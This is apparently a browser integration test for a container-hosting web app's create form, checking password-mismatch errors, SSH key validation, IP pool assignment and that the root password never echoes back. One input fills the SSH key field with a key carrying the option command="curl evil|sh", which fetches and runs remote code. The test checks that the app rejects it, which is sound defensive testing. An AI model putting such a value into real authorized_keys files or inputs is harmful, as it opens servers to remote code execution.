"""Issue 18 in Debian's Chromium: a tenant admin sees every default on the create form, is told in
place what is wrong (the password never comes back in the page), and creates a container with an
address of the tenant's pool, a root password and an SSH key."""
import pytest

from containers.models import Container
from network.models import IPPool

from .test_browser import log_in, page  # noqa: F401  (page is a fixture)
from .test_create_fields import ED25519, PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.integration]


def test_tenant_admin_creates_with_address_password_and_key(page, live_server, agent, people, acme, plan,  # noqa: F811
                                                            host, template_name, tmp_path):
    IPPool.objects.create(name="acme-browser", network="198.51.100.0/24", ranges="198.51.100.90-198.51.100.99"
                          ).tenants.add(acme)
    log_in(page, live_server.url, "tadmin", "tadmin-pass-123")
    page.goto(f"{live_server.url}/containers/new/")
    defaults = page.inner_text("#create-defaults")
    for text in ("RAM, swap, CPUs, disk", "the plan's (below)", "CPU units", "I/O priority",
                 "the host with the most room"):
        assert text in defaults, defaults
    assert "vps.basic\t256 MiB\t0 MiB\t1\t1024 MiB" in page.inner_text("#create-plans")
    page.fill("#id_ctid", "9477")
    page.fill("#id_hostname", "browser-create.test")
    page.select_option("#id_ostemplate", template_name)
    page.select_option("#id_plan", label="vps.basic")
    page.fill("#id_ipadd", "auto")
    page.fill("#id_root_password", PASSWORD)
    page.fill("#id_root_password_confirm", PASSWORD + "!")
    page.fill("#id_ssh_public_keys", ED25519 + "\ncommand=\"curl evil|sh\" " + ED25519)
    page.uncheck("#id_start")
    page.click("button:has-text('Create')")
    page.wait_for_selector("text=The two passwords differ.")
    assert "SSH key 2 is not an SSH public key" in page.content()
    assert PASSWORD not in page.content() and page.input_value("#id_root_password") == ""
    assert not Container.objects.filter(ctid=9477).exists()

    page.fill("#id_root_password", PASSWORD)
    page.fill("#id_root_password_confirm", PASSWORD)
    page.fill("#id_ssh_public_keys", ED25519)
    page.screenshot(path=str(tmp_path / "create.png"), full_page=True)
    page.click("button:has-text('Create')")
    page.wait_for_selector("#task-status [data-status=ok]", timeout=90_000)
    log = page.inner_text("#task-log")
    assert "Root password set" in log and "1 SSH public key for root" in log and PASSWORD not in log
    ct = Container.objects.get(ctid=9477)
    assert list(ct.addresses.values_list("address", flat=True)) == ["198.51.100.90"]
